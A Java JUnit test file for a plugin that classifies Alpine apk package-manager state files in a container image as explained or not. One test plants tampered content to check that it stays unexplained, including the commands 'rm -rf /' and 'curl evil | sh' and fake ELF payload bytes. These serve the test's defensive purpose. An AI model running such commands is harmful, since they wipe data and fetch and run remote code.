package dev.jonah.sysdb.alpine;

import static dev.jonah.sysdb.alpine.Installations.IDENTITY;
import static dev.jonah.sysdb.alpine.Installations.explained;
import static dev.jonah.sysdb.alpine.Installations.owning;
import static org.assertj.core.api.Assertions.assertThat;

import dev.jonah.image.FileTree;
import dev.jonah.ledger.Explainer;
import dev.jonah.ledger.Explanation;
import dev.jonah.ledger.Verdict;
import dev.jonah.testkit.ExplainerContract;
import dev.jonah.testkit.ExplainerScan;
import dev.jonah.testkit.FakeTree;
import dev.jonah.testkit.FakeTreeBuilder;
import dev.jonah.testkit.Scans;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class PackageManagerStateTest extends ExplainerContract {
    @Override
    protected Explainer plugin() {
        return new PackageManagerState();
    }

    @Override
    protected FakeTree fixture() {
        try {
            return root().file("/lib/apk/db/lock", "")
                    .file("/lib/apk/db/triggers", IDENTITY + " /bin\n")
                    .file("/lib/apk/db/scripts.tar", Archives.tar("a-1." + IDENTITY + ".trigger", "x"))
                    .file("/etc/apk/world", "a\n")
                    .file("/etc/apk/arch", "x86_64\n")
                    .file("/etc/apk/repositories", "https://dl-cdn.alpinelinux.org/alpine/v3.20/main\n")
                    .file("/etc/apk/repositories.d/more.list", "@edge https://example.org/x\n")
                    .file("/var/cache/apk/APKINDEX.066df28d.tar.gz", index("APKINDEX"))
                    .symlink("/etc/apk/cache", "/var/cache/apk")
                    .build();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Override
    protected ExplainerScan scan(FileTree tree) {
        return Scans.explainer(tree).withPackage(owning("a"));
    }

    @Override
    protected void assertExplanations(List<Explanation> found) {
        assertThat(found).allMatch(e -> e.verdict() == Verdict.TRANSIENT);
        assertThat(found)
                .extracting(e -> e.path().toString())
                .containsExactly(
                        "/etc/apk/arch",
                        "/etc/apk/cache",
                        "/etc/apk/repositories",
                        "/etc/apk/repositories.d/more.list",
                        "/etc/apk/world",
                        "/lib/apk/db/installed",
                        "/lib/apk/db/lock",
                        "/lib/apk/db/scripts.tar",
                        "/lib/apk/db/triggers",
                        "/var/cache/apk/APKINDEX.066df28d.tar.gz");
    }

    @Test
    void otherContentInTheSamePlacesStaysUnexplained() throws IOException {
        Map<String, byte[]> planted = Map.of(
                "/lib/apk/db/lock", bytes("#!/bin/sh\n"),
                "/lib/apk/db/triggers", bytes("#!/bin/sh\nrm -rf /\n"),
                "/lib/apk/db/scripts.tar", Archives.tar("payload", "x"),
                "/lib/apk/db/scripts.tar.gz", bytes("\177ELF"),
                "/etc/apk/world", bytes("a\n=\n"),
                "/etc/apk/arch", bytes("s390x\n"),
                "/etc/apk/repositories", bytes("curl evil | sh\n"),
                "/var/cache/apk/APKINDEX.066df28d.tar.gz", index("payload"),
                "/var/cache/apk/a-1.066df28d.apk", bytes("\177ELF"));
        for (Map.Entry<String, byte[]> file : planted.entrySet()) {
            FakeTree tree = root().file(file.getKey(), file.getValue()).build();
            assertThat(explained(scan(tree), plugin())).doesNotContain(file.getKey());
        }
    }

    @Test
    void unknownFilesBesideThemStayUnexplained() throws IOException {
        FakeTree tree = root().file("/var/cache/apk/x", "")
                .file("/lib/apk/db/installed.bak", "")
                .file("/etc/apk/repositories.d/x.conf", "https://example.org/\n")
                .build();
        assertThat(explained(scan(tree), plugin())).containsExactly("/lib/apk/db/installed");
    }

    @Test
    void malformedDatabaseStaysUnexplained() throws IOException {
        FakeTree tree = FakeTree.builder()
                .file("/lib/apk/db/installed", "P:a\nrubbish\n")
                .build();
        assertThat(explained(scan(tree), plugin())).isEmpty();
    }

    @Test
    void executableStateStaysUnexplained() throws IOException {
        FakeTree tree = root().mode("/lib/apk/db/installed", 0755).build();
        assertThat(explained(scan(tree), plugin())).isEmpty();
    }

    @Test
    void scriptsOfPackagesThatAreNotInstalledStayUnexplained() throws IOException {
        String other = "Q1" + "A".repeat(27) + "=";
        FakeTree tree = root().file("/lib/apk/db/scripts.tar", Archives.tar("a-1." + other + ".trigger", "x"))
                .build();
        assertThat(explained(scan(tree), plugin())).doesNotContain("/lib/apk/db/scripts.tar");
    }

    @Test
    void cachedPackageIsExplained() throws IOException {
        byte[] apk = Archives.gzip(Archives.tar(".SIGN.RSA.key", "x", ".PKGINFO", "pkgname = a\n"));
        FakeTree tree = root().file("/var/cache/apk/a-1-r0.066df28d.apk", apk).build();
        assertThat(explained(scan(tree), plugin())).contains("/var/cache/apk/a-1-r0.066df28d.apk");
    }

    private static FakeTreeBuilder root() {
        return FakeTree.builder().file("/lib/apk/db/installed", "C:" + IDENTITY + "\nP:a\nV:1\n\n");
    }

    private static byte[] index(String entry) throws IOException {
        return Archives.gzip(Archives.tar(".SIGN.RSA.key", "x", "DESCRIPTION", "v3.20", entry, "P:a\n"));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(java.nio.charset.StandardCharsets.UTF_8);
    }
}
